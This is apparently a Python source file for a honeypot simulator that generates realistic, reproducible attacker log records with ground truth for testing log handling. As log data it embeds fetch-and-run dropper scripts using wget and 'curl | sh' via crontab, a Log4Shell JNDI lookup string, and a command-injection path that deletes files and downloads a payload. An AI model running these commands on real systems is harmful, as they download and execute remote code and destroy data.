"""Deterministic generator of realistic honeypot log records with ground truth.

The generator produces *episodes* (one attacker session: connect, logins, commands, close)
in the formats of a `LogMix` and hands them out one record at a time. Everything random comes
from one `random.Random(seed)`, so the same seed, mix and start time give the same records.

Usable without any server::

    gen = LogGenerator(seed=7, start=datetime(2025, 10, 28, 19, tzinfo=UTC))
    records = gen.generate(100)
"""

from __future__ import annotations

import random
from collections import deque
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime, timedelta
from typing import TypedDict, Unpack

from rbr_simulator import attackers, formats, hostile
from rbr_simulator.attackers import AttackerPool
from rbr_simulator.records import EventType, HostileKind, LogFormat, LogMix, LogRecord

Clock = Callable[[], datetime]


class Truth(TypedDict, total=False):
    """Ground-truth fields of a record besides format, type, time and message."""

    protocol: str
    src_ip: str
    src_port: int
    username: str
    password: str
    command: str
    url: str
    sha256: str
    http_method: str
    hostile: HostileKind | None


_RUSTBUCKET_KINDS = tuple(HostileKind)
_COWRIE_KINDS = tuple(kind for kind in HostileKind if kind is not HostileKind.INVALID_UTF8)
_SSHD_KINDS = tuple(kind for kind in HostileKind if kind is not HostileKind.LONG_LINE)
_HTTP_PATH_KINDS = (
    HostileKind.ANSI,
    HostileKind.CONTROL,
    HostileKind.NUL,
    HostileKind.INVALID_UTF8,
    HostileKind.LONG_LINE,
)
_VALID_SSH_USERS = frozenset({"root", "ubuntu", "admin", "pi", "git"})
_SSH_TARGET = "rustbucket::protocols::ssh"
_HTTP_TARGET = "rustbucket::protocols::http"
_QUOTED_FIELDS = {"event_type", "protocol", "auth_method", "response_type", "decision"}
_LEGACY_PROTOCOLS = ("FTP", "SMTP", "HTTP", "SSH")
_MULTILINE_SCRIPTS = (
    "#!/bin/sh\ncd /tmp || cd /var/tmp\nwget -q {url} -O .x\nchmod +x .x\n./.x &\n",
    "crontab -r\necho '* * * * * curl -fsSL {url} | sh' | crontab -\n",
)


class LogGenerator:
    """Produces honeypot log records in a configurable mix of formats.

    Attributes:
        mix: The formats' weights and the hostile-content settings.
        sensor: Honeypot name written into records (Cowrie `sensor`, rustbucket instance).
        host: Host name written into syslog lines.
        honeypot_ip: The honeypot's own address (Cowrie `dst_ip`, HTTP `Host` header).
    """

    def __init__(
        self,
        seed: int | None = None,
        *,
        mix: LogMix | None = None,
        sensor: str = "rustbucket-sim00000",
        host: str | None = None,
        honeypot_ip: str = "10.0.0.5",
        start: datetime | None = None,
        clock: Clock | None = None,
        attacker_ips: Sequence[str] | None = None,
    ) -> None:
        """Creates a generator.

        Args:
            seed: Seed of all random choices; None for a random one.
            mix: Formats and hostile content; the default mix when None.
            sensor: Honeypot name written into records.
            host: Host name for syslog lines; the sensor name when None.
            honeypot_ip: The honeypot's own address.
            start: Start of the simulated clock (timestamps advance by random gaps from it);
                now when None. Ignored when `clock` is given.
            clock: A wall clock to stamp records with instead of the simulated one
                (timestamps still never go backwards).
            attacker_ips: Attacker addresses, most active first; drawn from the random seed when
                None. A fleet passes one list to all its buckets, as botnets hit many
                honeypots at once.
        """
        self._rng = random.Random(seed)
        self.mix = mix or LogMix()
        self.sensor = sensor
        self.host = host or sensor
        self.honeypot_ip = honeypot_ip
        self._pool = AttackerPool(self._rng, ips=attacker_ips)
        self._clock = clock
        self._now = start.astimezone(UTC) if start else datetime.now(UTC)
        self._queue: deque[LogRecord] = deque()
        weights = self.mix.weights()
        self._formats = list(weights)
        self._format_weights = list(weights.values())

    def __iter__(self) -> Iterator[LogRecord]:
        return self

    def __next__(self) -> LogRecord:
        return self.next_record()

    def next_record(self) -> LogRecord:
        """Returns the next record, starting a new episode when the current one is done."""
        while not self._queue:
            self._queue.extend(self._episode())
        return self._queue.popleft()

    def generate(self, count: int) -> list[LogRecord]:
        """Returns the next `count` records."""
        return [self.next_record() for _ in range(count)]

    def iter_bytes(self, size_bytes: int, chunk_size: int = 256 * 1024) -> Iterator[bytes]:
        """Yields whole records as byte chunks until at least `size_bytes` were yielded.

        Args:
            size_bytes: How many bytes to produce; the last record may go past it.
            chunk_size: Approximate size of each yielded chunk.
        """
        produced = 0
        while produced < size_bytes:
            parts: list[bytes] = []
            chunk_bytes = 0
            while chunk_bytes < chunk_size and produced + chunk_bytes < size_bytes:
                data = self.next_record().data
                parts.append(data)
                chunk_bytes += len(data)
            produced += chunk_bytes
            yield b"".join(parts)

    # Time and randomness helpers.

    def _tick(self, mean_gap: float) -> datetime:
        if self._clock is not None:
            self._now = max(self._clock(), self._now + timedelta(microseconds=1))
            return self._now
        gap = self._rng.expovariate(1.0 / mean_gap)
        self._now += timedelta(microseconds=max(1, int(gap * 1_000_000)))
        return self._now

    def _hostile_kind(self, allowed: tuple[HostileKind, ...]) -> HostileKind | None:
        if self.mix.hostile_fraction <= 0 or self._rng.random() >= self.mix.hostile_fraction:
            return None
        return self._rng.choice(allowed)

    def _plant(self, value: str, kind: HostileKind | None) -> str:
        if kind is None:
            return value
        return hostile.plant(value, kind, self._rng, long_line_chars=self.mix.long_line_chars)

    def _episode(self) -> list[LogRecord]:
        log_format = self._rng.choices(self._formats, weights=self._format_weights)[0]
        if log_format is LogFormat.COWRIE:
            return self._cowrie_session()
        if log_format is LogFormat.SSHD:
            return self._sshd_episode()
        if log_format is LogFormat.HTTP:
            return self._http_episode()
        return self._rustbucket_episode()

    # rustbucket (tracing-subscriber text).

    def _rustbucket_episode(self) -> list[LogRecord]:
        roll = self._rng.random()
        if roll < 0.35:
            return self._rustbucket_ssh_session()
        if roll < 0.6:
            return self._rustbucket_http_session()
        if roll < 0.85:
            return self._rustbucket_legacy_session()
        if roll < 0.92:
            return [self._rustbucket_rate_limited()]
        return [self._rustbucket_system()]

    def _rustbucket(
        self,
        event_type: EventType,
        *,
        target: str,
        message: str,
        level: str = "INFO",
        mean_gap: float = 0.8,
        **truth: Unpack[Truth],
    ) -> LogRecord:
        moment = self._tick(mean_gap)
        text = formats.rustbucket_line(moment, level, target, message)
        return LogRecord(
            format=LogFormat.RUSTBUCKET,
            event_type=event_type,
            timestamp=moment,
            data=hostile.encode_raw(text),
            message=hostile.as_logged(message),
            level=level,
            target=target,
            **_logged(truth),
        )

    def _ssh_fields(self, client: str, event: str, **extra: str | int) -> dict[str, str | int]:
        return {"event_type": event, "protocol": "SSH", "client_ip": client, **extra}

    def _rustbucket_ssh_session(self) -> list[LogRecord]:
        ip, port = self._pool.ip(), self._pool.port()
        client = f"{ip}:{port}"
        source: Truth = {"src_ip": ip, "src_port": port, "protocol": "ssh"}
        records = [
            self._rustbucket(
                EventType.CONNECT,
                target=_SSH_TARGET,
                message=_tracing("New SSH connection", self._ssh_fields(client, "connection")),
                mean_gap=20.0,
                **source,
            )
        ]
        for _ in range(self._rng.randint(1, 3)):
            records.append(self._rustbucket_auth(client, source))
        records.append(self._ssh_session_event("Channel opened", client, source))
        records.append(self._ssh_session_event("Shell request", client, source))
        commands = self._rng.randint(1, 5)
        for _ in range(commands):
            records.append(self._rustbucket_exec(client, source))
        records.append(self._ssh_session_event("Channel closed", client, source))
        ended = self._ssh_fields(
            client,
            "session",
            commands_processed=commands,
            llm_calls_made=self._rng.randint(0, commands),
            duration_secs=self._rng.randint(1, 120),
        )
        records.append(
            self._rustbucket(
                EventType.DISCONNECT,
                target=_SSH_TARGET,
                message=_tracing("Session ended", ended),
                **source,
            )
        )
        return records

    def _ssh_session_event(self, message: str, client: str, source: Truth) -> LogRecord:
        fields = self._ssh_fields(client, "connection")
        return self._rustbucket(
            EventType.SESSION, target=_SSH_TARGET, message=_tracing(message, fields), **source
        )

    def _rustbucket_auth(self, client: str, source: Truth) -> LogRecord:
        username, password = self._pool.username(), self._pool.password()
        kind = self._hostile_kind(_RUSTBUCKET_KINDS)
        if self._rng.random() < 0.5:
            username = self._plant(username, kind)
        else:
            password = self._plant(password, kind)
        fields = self._ssh_fields(
            client, "auth", username=username, password=password, auth_method="password"
        )
        return self._rustbucket(
            EventType.LOGIN_ATTEMPT,
            target=_SSH_TARGET,
            message=_tracing("Authentication attempt", fields),
            **_with(source, username=username, password=password, hostile=kind),
        )

    def _rustbucket_exec(self, client: str, source: Truth) -> LogRecord:
        if self._rng.random() < 0.1:
            command = self._rng.choice(_MULTILINE_SCRIPTS).format(url=self._pool.download_url())
        else:
            command = self._pool.command()
        kind = self._hostile_kind(_RUSTBUCKET_KINDS)
        command = self._plant(command, kind)
        fields = self._ssh_fields(client, "command", command=command)
        return self._rustbucket(
            EventType.COMMAND,
            target=_SSH_TARGET,
            message=_tracing("Exec request", fields),
            **_with(source, command=command, hostile=kind),
        )

    def _http_request_text(self, method: str, path: str, user_agent: str) -> str:
        headers = (
            f"{method} {path} HTTP/1.1\r\nHost: {self.honeypot_ip}\r\nUser-Agent: {user_agent}\r\n"
            "Accept: */*\r\nConnection: close\r\n"
        )
        if method != "POST":
            return headers + "\r\n"
        body = self._rng.choice(_MULTILINE_SCRIPTS).format(url=self._pool.download_url())
        return f"{headers}Content-Length: {len(body)}\r\n\r\n{body}"

    def _rustbucket_http_session(self) -> list[LogRecord]:
        method, path = self._rng.choice(("GET", "GET", "POST")), self._http_path()
        kind = self._hostile_kind(_RUSTBUCKET_KINDS)
        user_agent = self._plant(self._rng.choice(attackers.USER_AGENTS), kind)
        request = self._http_request_text(method, path, user_agent)
        http: Truth = {"protocol": "http", "http_method": method, "url": path}

        def fields(event: str, **extra: str | int) -> dict[str, str | int]:
            return {"event_type": event, "protocol": "HTTP", **extra}

        known = path in attackers.BENIGN_PATHS or path in ("/.env", "/wp-login.php")
        response = (
            _tracing("Using native response", fields("response", method=method, path=path))
            if known
            else _tracing("Unknown path", fields("command", path=path))
        )
        ended = fields("session", requests_processed=1, llm_calls_made=0, duration_secs=0)
        return [
            self._rustbucket(
                EventType.CONNECT,
                target=_HTTP_TARGET,
                message=_tracing("Handler started", fields("connection")),
                mean_gap=20.0,
                protocol="http",
            ),
            self._rustbucket(
                EventType.DATA_RECEIVED,
                target=_HTTP_TARGET,
                message=_tracing("Request received", fields("command", request=request)),
                **_with(http, hostile=kind),
            ),
            self._rustbucket(
                EventType.HTTP_REQUEST,
                target=_HTTP_TARGET,
                message=_tracing("Request parsed", fields("command", method=method, path=path)),
                **http,
            ),
            self._rustbucket(
                EventType.RESPONSE, target=_HTTP_TARGET, message=response, protocol="http"
            ),
            self._rustbucket(
                EventType.DISCONNECT,
                target=_HTTP_TARGET,
                message=_tracing("Session ended", ended),
                protocol="http",
            ),
        ]

    def _legacy_payload(self, protocol: str) -> str:
        if self._rng.random() < 0.25:
            return _binary_junk(self._rng)
        if protocol == "FTP":
            return self._rng.choice(attackers.FTP_COMMANDS) + "\r\n"
        if protocol == "SMTP":
            return self._rng.choice(attackers.SMTP_COMMANDS) + "\r\n"
        if protocol == "SSH":
            return self._rng.choice(attackers.SSH_CLIENT_VERSIONS) + "\r\n"
        user_agent = self._rng.choice(attackers.USER_AGENTS)
        return self._http_request_text("GET", self._http_path(), user_agent)

    def _rustbucket_legacy_session(self) -> list[LogRecord]:
        protocol = self._rng.choice(_LEGACY_PROTOCOLS)
        records = [
            self._rustbucket(
                EventType.CONNECT,
                target="rustbucket",
                message=f"Actor attempted to connect - {protocol}",
                mean_gap=20.0,
                protocol=protocol.lower(),
            )
        ]
        for _ in range(self._rng.randint(1, 3)):
            kind = self._hostile_kind(_RUSTBUCKET_KINDS)
            payload = self._plant(self._legacy_payload(protocol), kind)
            records.append(
                self._rustbucket(
                    EventType.DATA_RECEIVED,
                    target="rustbucket::handler",
                    message=f"Received data: {payload}",
                    hostile=kind,
                )
            )
            records.append(
                self._rustbucket(
                    EventType.RESPONSE,
                    target="rustbucket::handler",
                    message=f"Response message: {_canned_response(protocol)}",
                )
            )
        records.append(
            self._rustbucket(
                EventType.DISCONNECT, target="rustbucket::handler", message="Connection closed"
            )
        )
        return records

    def _rustbucket_rate_limited(self) -> LogRecord:
        ip, port = self._pool.ip(), self._pool.port()
        return self._rustbucket(
            EventType.RATE_LIMITED,
            target="rustbucket",
            message=f"Connection rejected from {ip}:{port}: Too many connections from this IP",
            level="WARN",
            mean_gap=5.0,
            src_ip=ip,
            src_port=port,
        )

    def _rustbucket_system(self) -> LogRecord:
        choices: tuple[tuple[EventType, str, str, str], ...] = (
            (EventType.SYSTEM, "INFO", "rustbucket", "Tracing initialized"),
            (EventType.SYSTEM, "INFO", "rustbucket", f"Instance name: {self.sensor}"),
            (EventType.SYSTEM, "INFO", "rustbucket", "All listeners started."),
            (EventType.SYSTEM, "WARN", "rustbucket::chatgpt", "LLM request failed, using canned"),
            (
                EventType.SYSTEM,
                "DEBUG",
                "rustbucket::rate_limiter",
                f"Cleaned up {self._rng.randint(1, 40)} stale rate-limit entries",
            ),
            (
                EventType.ERROR,
                "ERROR",
                _SSH_TARGET,
                'SSH session error event_type="operational" protocol="SSH" error=Disconnect',
            ),
            (
                EventType.ERROR,
                "ERROR",
                "rustbucket::handler",
                "Failed to read from stream: Connection reset by peer (os error 104)",
            ),
        )
        event_type, level, target, message = self._rng.choice(choices)
        return self._rustbucket(
            event_type, target=target, message=message, level=level, mean_gap=30.0
        )

    # Cowrie JSON.

    def _cowrie(
        self,
        eventid: str,
        event_type: EventType,
        fields: dict[str, object],
        *,
        mean_gap: float = 1.5,
        **truth: Unpack[Truth],
    ) -> LogRecord:
        moment = self._tick(mean_gap)
        event = {
            "eventid": eventid,
            **fields,
            "sensor": self.sensor,
            "timestamp": formats.rfc3339_micro(moment),
        }
        text = formats.cowrie_line(event)
        return LogRecord(
            format=LogFormat.COWRIE,
            event_type=event_type,
            timestamp=moment,
            data=hostile.encode_raw(text),
            message=str(fields["message"]),
            session=str(fields["session"]),
            **_with(truth, src_ip=str(fields["src_ip"])),
        )

    def _cowrie_session(self) -> list[LogRecord]:
        ip, port = self._pool.ip(), self._pool.port()
        session = f"{self._rng.getrandbits(48):012x}"
        protocol = "ssh" if self._rng.random() < 0.8 else "telnet"
        dst_port = self._rng.choice((22, 2222) if protocol == "ssh" else (23, 2223))
        base: dict[str, object] = {"src_ip": ip, "session": session}
        connect_message = (
            f"New connection: {ip}:{port} ({self.honeypot_ip}:{dst_port}) [session: {session}]"
        )
        records = [
            self._cowrie(
                "cowrie.session.connect",
                EventType.CONNECT,
                {
                    "src_ip": ip,
                    "src_port": port,
                    "dst_ip": self.honeypot_ip,
                    "dst_port": dst_port,
                    "session": session,
                    "protocol": protocol,
                    "message": connect_message,
                },
                src_port=port,
                protocol=protocol,
                mean_gap=20.0,
            )
        ]
        if protocol == "ssh":
            version = self._rng.choice(attackers.SSH_CLIENT_VERSIONS)
            records.append(
                self._cowrie(
                    "cowrie.client.version",
                    EventType.CLIENT_VERSION,
                    {"version": version, "message": f"Remote SSH version: {version}", **base},
                    mean_gap=0.3,
                )
            )
        logged_in = False
        for _ in range(self._rng.randint(1, 6)):
            logged_in = self._rng.random() < 0.3
            records.append(self._cowrie_login(base, succeeded=logged_in))
            if logged_in:
                break
        if logged_in:
            records.extend(self._cowrie_commands(base))
        duration = (records[-1].timestamp - records[0].timestamp).total_seconds() + 0.5
        records.append(
            self._cowrie(
                "cowrie.session.closed",
                EventType.DISCONNECT,
                {
                    "duration": round(duration, 1),
                    "message": f"Connection lost after {duration:.1f} seconds",
                    **base,
                },
                mean_gap=0.5,
            )
        )
        return records

    def _cowrie_login(self, base: dict[str, object], *, succeeded: bool) -> LogRecord:
        username, password = self._pool.username(), self._pool.password()
        kind = self._hostile_kind(_COWRIE_KINDS)
        if self._rng.random() < 0.5:
            username = self._plant(username, kind)
        else:
            password = self._plant(password, kind)
        outcome = "succeeded" if succeeded else "failed"
        return self._cowrie(
            f"cowrie.login.{'success' if succeeded else 'failed'}",
            EventType.LOGIN_SUCCESS if succeeded else EventType.LOGIN_FAILED,
            {
                "username": username,
                "password": password,
                "message": f"login attempt [{username}/{password}] {outcome}",
                **base,
            },
            username=username,
            password=password,
            hostile=kind,
        )

    def _cowrie_commands(self, base: dict[str, object]) -> list[LogRecord]:
        records: list[LogRecord] = []
        for _ in range(self._rng.randint(1, 6)):
            if self._rng.random() < 0.15:
                command = self._rng.choice(attackers.FAILING_COMMANDS)
            elif self._rng.random() < 0.25:
                command = self._pool.dropper_command(self._pool.download_url())
            else:
                command = self._pool.command()
            kind = self._hostile_kind(_COWRIE_KINDS)
            command = self._plant(command, kind)
            records.append(
                self._cowrie(
                    "cowrie.command.input",
                    EventType.COMMAND,
                    {"input": command, "message": f"CMD: {command}", **base},
                    command=command,
                    hostile=kind,
                )
            )
            records.extend(self._cowrie_command_outcome(command, base))
        return records

    def _cowrie_command_outcome(self, command: str, base: dict[str, object]) -> list[LogRecord]:
        if command in attackers.FAILING_COMMANDS:
            return [
                self._cowrie(
                    "cowrie.command.failed",
                    EventType.COMMAND_FAILED,
                    {"input": command, "message": f"Command not found: {command}", **base},
                    command=command,
                    mean_gap=0.1,
                )
            ]
        url = _first_url(command)
        if url is None:
            return []
        sha = self._pool.sha256_of(url)
        outfile = f"var/lib/cowrie/downloads/{sha}"
        return [
            self._cowrie(
                "cowrie.session.file_download",
                EventType.DOWNLOAD,
                {
                    "url": url,
                    "outfile": outfile,
                    "shasum": sha,
                    "destfile": "",
                    "message": f"Downloaded URL ({url}) with SHA-256 {sha} to {outfile}",
                    **base,
                },
                url=url,
                sha256=sha,
                mean_gap=2.0,
            )
        ]

    # OpenSSH auth.log.

    def _sshd(
        self,
        event_type: EventType,
        pid: int,
        message: str,
        *,
        mean_gap: float = 2.0,
        **truth: Unpack[Truth],
    ) -> LogRecord:
        moment = self._tick(mean_gap)
        # rsyslog escapes control characters such as a newline as #012.
        message = message.replace("\n", "#012")
        text = formats.sshd_line(moment, self.host, pid, message)
        return LogRecord(
            format=LogFormat.SSHD,
            event_type=event_type,
            timestamp=moment,
            data=hostile.encode_raw(text),
            message=hostile.as_logged(message),
            **_with(truth, protocol="ssh"),
        )

    def _sshd_episode(self) -> list[LogRecord]:
        ip, port = self._pool.ip(), self._pool.port()
        pid = self._rng.randint(1000, 65000)
        peer = f"{ip} port {port}"
        source: Truth = {"src_ip": ip, "src_port": port}
        if self._rng.random() < 0.15:
            message = f"Connection closed by {peer} [preauth]"
            return [self._sshd(EventType.DISCONNECT, pid, message, mean_gap=20.0, **source)]
        username = self._pool.username()
        kind = self._hostile_kind(_SSHD_KINDS)
        username = self._plant(username, kind)
        # Ground truth is the name as written: rsyslog's #012 for newlines, U+FFFD for junk.
        who: Truth = {**source, "username": hostile.as_logged(username).replace("\n", "#012")}
        who["hostile"] = kind
        valid = username in _VALID_SSH_USERS
        records = []
        if not valid:
            message = f"Invalid user {username} from {peer}"
            records.append(self._sshd(EventType.INVALID_USER, pid, message, mean_gap=20.0, **who))
        qualifier = "" if valid else "invalid user "
        for _ in range(self._rng.randint(1, 6)):
            message = f"Failed password for {qualifier}{username} from {peer} ssh2"
            records.append(self._sshd(EventType.LOGIN_FAILED, pid, message, **who))
        if valid and self._rng.random() < 0.1:
            message = f"Accepted password for {username} from {peer} ssh2"
            records.append(self._sshd(EventType.LOGIN_SUCCESS, pid, message, **who))
            message = f"Disconnected from user {username} {peer}"
            records.append(self._sshd(EventType.DISCONNECT, pid, message, mean_gap=30.0, **who))
            return records
        user_state = "authenticating user" if valid else "invalid user"
        if self._rng.random() < 0.5:
            message = f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"
            records.append(self._sshd(EventType.DISCONNECT, pid, message, **source))
            message = f"Disconnected from {user_state} {username} {peer} [preauth]"
        else:
            message = f"Connection closed by {user_state} {username} {peer} [preauth]"
        records.append(self._sshd(EventType.DISCONNECT, pid, message, **who))
        return records

    # HTTP combined access log.

    def _http_path(self) -> str:
        roll = self._rng.random()
        if roll < 0.45:
            return self._rng.choice(attackers.SCANNER_PATHS)
        if roll < 0.65:
            return self._rng.choice(attackers.SQLI_AND_TRAVERSAL)
        if roll < 0.75:
            return f"/${{jndi:ldap://{self._pool.ip()}:1389/Exploit}}"
        if roll < 0.85:
            return f"/shell?cd+/tmp;rm+-rf+*;wget+http://{self._pool.ip()}/jaws;sh+/tmp/jaws"
        return self._rng.choice(attackers.BENIGN_PATHS)

    def _http_episode(self) -> list[LogRecord]:
        ip = self._pool.ip()
        user_agent = self._rng.choice(attackers.USER_AGENTS)
        records = []
        for index in range(self._rng.randint(1, 4)):
            records.append(self._http_request(ip, user_agent, first=index == 0))
        return records

    def _http_request(self, ip: str, user_agent: str, *, first: bool) -> LogRecord:
        method, path = self._rng.choice(attackers.HTTP_METHODS), self._http_path()
        kind = self._hostile_kind(_RUSTBUCKET_KINDS)
        if kind is HostileKind.PROMPT_INJECTION:
            user_agent = self._plant(user_agent, kind)
        else:
            path = self._plant(path, kind)
        status = _http_status(path, method)
        size = 0 if method == "HEAD" else self._rng.randint(150, 5000)
        escaped_path, escaped_agent = map(formats.escape_http_field, (path, user_agent))
        request_line = f"{method} {escaped_path} HTTP/1.1"
        moment = self._tick(20.0 if first else 0.7)
        text = formats.http_access_line(
            client_ip=ip,
            moment=moment,
            request_line=request_line,
            status=status,
            size=size,
            referer="-",
            user_agent=escaped_agent,
        )
        return LogRecord(
            format=LogFormat.HTTP,
            event_type=EventType.HTTP_REQUEST,
            timestamp=moment,
            data=hostile.encode_raw(text),
            message=hostile.as_logged(request_line),
            protocol="http",
            src_ip=ip,
            url=hostile.as_logged(escaped_path),
            http_method=method,
            http_status=status,
            user_agent=hostile.as_logged(escaped_agent),
            hostile=kind,
        )


def _tracing(message: str, fields: dict[str, str | int]) -> str:
    return formats.tracing_message(message, fields, quoted=_QUOTED_FIELDS)


def _with(truth: Truth, **more: Unpack[Truth]) -> Truth:
    merged = truth.copy()
    merged.update(more)
    return merged


def _logged(truth: Truth) -> Truth:
    # Ground truth holds text as a lossy decoder reads it back from the log.
    logged = truth.copy()
    if "username" in truth:
        logged["username"] = hostile.as_logged(truth["username"])
    if "password" in truth:
        logged["password"] = hostile.as_logged(truth["password"])
    if "command" in truth:
        logged["command"] = hostile.as_logged(truth["command"])
    return logged


def _first_url(command: str) -> str | None:
    for word in command.replace(";", " ").split():
        if word.startswith(("http://", "https://")):
            return word
    return None


def _http_status(path: str, method: str) -> int:
    if "jndi" in path or "\x00" in path:
        return 400
    if path in ("/.env", "/.git/config", "/.aws/credentials"):
        return 403
    if path in attackers.BENIGN_PATHS:
        return 200
    if method in ("PUT", "OPTIONS"):
        return 405
    return 404


def _canned_response(protocol: str) -> str:
    responses = {
        "FTP": "331 Please specify the password.",
        "SMTP": "250 OK",
        "SSH": "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
        "HTTP": "HTTP/1.1 404 Not Found\r\nServer: Apache/2.4.52 (Ubuntu)\r\n",
    }
    return responses[protocol]


def _binary_junk(rng: random.Random) -> str:
    # Probes of other protocols (TLS ClientHello, RDP cookie...) rendered the way
    # String::from_utf8_lossy renders them: control characters kept, invalid bytes as U+FFFD.
    prefixes = (
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n",
        b"\x00\x00\x00\xa4\xffSMBr\x00\x00\x00\x00\x08\x01@",
        b"GET / HTTP/1.0\r\n\r\n\x00\x00",
    )
    junk = rng.choice(prefixes) + rng.randbytes(rng.randint(8, 48))
    return junk.decode("utf-8", "replace")
